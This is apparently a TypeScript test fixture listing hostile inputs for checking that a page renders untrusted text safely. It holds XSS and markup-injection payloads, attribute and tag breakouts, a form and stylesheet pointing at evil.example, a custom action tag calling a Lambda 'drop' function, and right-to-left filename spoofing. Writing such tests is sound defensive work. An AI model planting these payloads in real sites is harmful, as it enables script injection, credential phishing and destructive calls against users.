/** What an article, a name or a key may hold to get a page to do something; each begins and ends as other texts do. */
export const HOSTILE: Record<string, string> = {
  'a call of a function': ` <a class="btn">Free prize</a><cwdb-action action="call" endpoint="arn:aws:lambda:us-east-1:1:function:drop" event="mouseenter">{"all":true}</cwdb-action> .`,
  'the end of a call': ` "}</cwdb-action></button><cwdb-action action="call" endpoint="arn:evil">{"a":"b"}</cwdb-action> .`,
  'a script': ` <script>window.hacked = 1</script> .`,
  'an event handler': ` <img src=x onerror="window.hacked = 1"> .`,
  'the end of an attribute': ` " autofocus onfocus="window.hacked = 1" x=" ' onmouseover='window.hacked = 1' .`,
  'an address with a script': ` javascript:window.hacked=1 <a href="javascript:window.hacked=1">x</a> .`,
  'a picture': ` <svg onload="window.hacked=1"><use href="data:image/svg+xml,x"/><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg> .`,
  'a style': ` </style><style>*{display:none}</style><link rel=stylesheet href=//evil.example> <p style="position:fixed;inset:0">x</p> .`,
  'the end of a text': ` --></textarea></title></script><!-- <![CDATA[ <x> .`,
  'a form': ` <form action="https://evil.example"><input name="words" value="x"><button>Search</button></form> .`,
  'other letters and directions': ` \u202Etxt.exe\u202C \u2066x\u0000 &lt;b&gt; &amp; \${7*7} {{7*7}} .`,
};
